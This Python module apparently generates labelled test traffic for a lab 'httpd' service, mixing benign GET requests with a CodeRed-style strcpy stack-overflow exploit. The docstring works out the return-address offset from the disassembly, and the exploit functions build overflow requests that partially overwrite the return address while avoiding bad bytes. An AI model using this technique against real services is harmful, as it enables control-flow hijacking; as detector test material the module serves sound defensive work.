"""Traffic for ``httpd`` (HTTP/1.0 on TCP 80): benign page fetches and the CodeRed-class exploit.

The bug: ``handle_request`` copies the query string (after '?') with glibc's ``strcpy`` into
``char params[128]``. Its disassembly (``objdump -d --no-show-raw-insn bin/httpd``)::

    401ae0 <handle_request>:
      push %r15; push %r14; push %r13; push %r12; push %rbp; push %rbx   # 6 * 8 = 0x30
      sub    $0xa8,%rsp
      ...
      lea    0x20(%rsp),%rbx       # params = rsp + 0x20
      mov    %rdx,%rsi
      mov    %rbx,%rdi
      call   401020                # iplt slot of strcpy (IRELATIVE -> glibc's strcpy ifunc)

so the saved return address (at rsp + 0xa8 + 0x30) is 0xd8 - 0x20 = 0xb8 bytes from
``params[0]`` (``QUERY_TO_RET``; ``tests/sca/test_services.py`` re-derives it). The locals
below ``params`` are not in the overflow's way, so the function runs to its ``ret`` normally
after answering 404.

The exploit: ``GET <path>?<0xb8 filler bytes><3 target bytes> HTTP/1.0``. The parser writes a
NUL over the space after the target, strcpy copies it as the target's 4th byte, and the upper
four keep the zeros of the original return address: on ``ret`` control goes to the target, an
execution-control alert. The canonical target is glibc's ``_exit`` (read from the symbol
table), so the hijacked service just ends. The target bytes must avoid what would end the
request line or the query before the copy (NUL, space, CR, LF) and, to stay clear of any
query parsing, ``?#%&=+`` (``UNSAFE``).
"""

from __future__ import annotations

import random

from sca.alert import AlertType, ExecutionControl, Message
from sca.services import symbol_address
from sca.services._traffic import ALNUM, LETTERS, ExploitCase, split, stream_refs, tcp_session, word

EXPECTED_TYPE = AlertType.EXECUTION_CONTROL

SERVICE = "httpd"
PORT = 80

PARAMS_SIZE = 128  # char params[128]
QUERY_TO_RET = 0xB8  # 6 pushes + sub $0xa8,%rsp, params at lea 0x20(%rsp): 0x30 + 0xa8 - 0x20
TARGET_SYMBOL = "_exit"
TARGET_BYTES = 3
# Bytes that would end or reshape the request line before the copy.
UNSAFE = frozenset(b"\x00 \r\n?#%&=+")
MAX_BENIGN_QUERY = 100  # well below PARAMS_SIZE - 1

PAGES = ("/", "/index.html", "/about.html", "/robots.txt", "/style.css", "/favicon.ico")
MISSING = ("/admin", "/login.php", "/images/logo.png", "/docs/", "/old/index.htm")
SEARCH_WORDS = ("install", "release", "docs", "faq", "contact", "news", "kernel", "backup")
USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "curl/7.88.1",
    "Wget/1.21.3",
)
FILLER_ALPHABET = (ALNUM + "-._~").encode()


def target_address() -> int:
    """Where the canonical exploit sends control: glibc's ``_exit`` in the committed binary."""
    address = symbol_address(SERVICE, TARGET_SYMBOL)
    low = address.to_bytes(8, "little")
    if any(b in UNSAFE for b in low[:TARGET_BYTES]) or any(low[TARGET_BYTES:]):
        raise ValueError(f"{TARGET_SYMBOL} at {address:#x} cannot be written by a query")
    return address


def _headers(rng: random.Random | None) -> list[str]:
    """Request headers; with an rng a random selection in random order."""
    if rng is None:
        return ["Host: 10.77.0.10", "Content-type: text/xml", "Content-length: 0"]
    pool = [
        f"Host: 10.77.{rng.randint(0, 9)}.{rng.randint(1, 254)}",
        f"User-Agent: {rng.choice(USER_AGENTS)}",
        "Accept: */*",
        f"Accept-Language: {rng.choice(('en', 'en-US,en;q=0.8', 'de', 'fr-FR'))}",
        "Connection: close",
        f"Referer: http://10.77.0.10/{word(rng, LETTERS, 0, 12)}",
        "Cache-Control: no-cache",
    ]
    chosen = rng.sample(pool, rng.randint(0, len(pool)))
    return chosen


def _request(target: str, headers: list[str], version: str = "HTTP/1.0") -> bytes:
    head = f"GET {target} {version}\r\n" + "".join(h + "\r\n" for h in headers) + "\r\n"
    return head.encode()


def _benign_target(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.45:
        target = rng.choice(PAGES)
    elif roll < 0.75:
        words = "+".join(rng.choice(SEARCH_WORDS) for _ in range(rng.randint(1, 3)))
        target = f"/search?q={words}"
    elif roll < 0.9:
        target = rng.choice(MISSING)
    else:
        target = rng.choice(PAGES[:3])
    if rng.random() < 0.3:
        sep = "&" if "?" in target else "?"
        target += f"{sep}lang={rng.choice(('en', 'de', 'fr', 'es'))}"
    if rng.random() < 0.15:
        sep = "&" if "?" in target else "?"
        target += f"{sep}utm_source={word(rng, ALNUM, 3, 20)}&utm_medium=email"
    return target


def benign(rng: random.Random) -> list[Message]:
    """1 to 3 connections, one GET each (pages, searches, a few 404s), some requests split
    across two sends."""
    connections: list[list[bytes]] = []
    for _ in range(rng.randint(1, 3)):
        target = _benign_target(rng)
        query = target.partition("?")[2]
        assert len(query) <= MAX_BENIGN_QUERY, "a benign query must never reach the bug"
        version = rng.choice(("HTTP/1.0", "HTTP/1.1"))
        req = _request(target, _headers(rng), version)
        connections.append(split(req, rng if rng.random() < 0.4 else None))
    return tcp_session(connections)


def exploit_case(rng: random.Random | None = None) -> ExploitCase:
    """The exploit and where its target bytes are. ``rng`` None: CodeRed's shape,
    ``GET /default.ida?NNNN...``. With an rng: random filler, a path of random length before
    '?', random headers in random order, maybe split across two sends, maybe after a benign
    connection."""
    target = target_address().to_bytes(8, "little")[:TARGET_BYTES]
    if rng is None:
        path = "/default.ida"
        filler = b"N" * QUERY_TO_RET
        version = "HTTP/1.0"
    else:
        path = "/" + "/".join(word(rng, ALNUM, 1, 12) for _ in range(rng.randint(1, 4)))
        if rng.random() < 0.5:
            path += rng.choice((".ida", ".idq", ".asp", ".html", ".cgi"))
        filler = bytes(rng.choice(FILLER_ALPHABET) for _ in range(QUERY_TO_RET))
        version = rng.choice(("HTTP/1.0", "HTTP/1.1"))
    line = f"GET {path}?".encode() + filler + target + f" {version}\r\n".encode()
    data = line + "".join(h + "\r\n" for h in _headers(rng)).encode() + b"\r\n"
    at = len(f"GET {path}?") + QUERY_TO_RET

    connections: list[list[bytes]] = []
    if rng is not None and rng.random() < 0.3:
        connections.append([_request(_benign_target(rng), _headers(rng))])
    connections.append(split(data, rng if rng is not None and rng.random() < 0.5 else None))
    messages = tcp_session(connections)
    refs = stream_refs(messages, len(connections) - 1, at, TARGET_BYTES)
    return ExploitCase(tuple(messages), ExecutionControl(refs))


def exploit(rng: random.Random | None = None) -> list[Message]:
    """rng None: the canonical exploit; with an rng: a random variant."""
    return list(exploit_case(rng).messages)
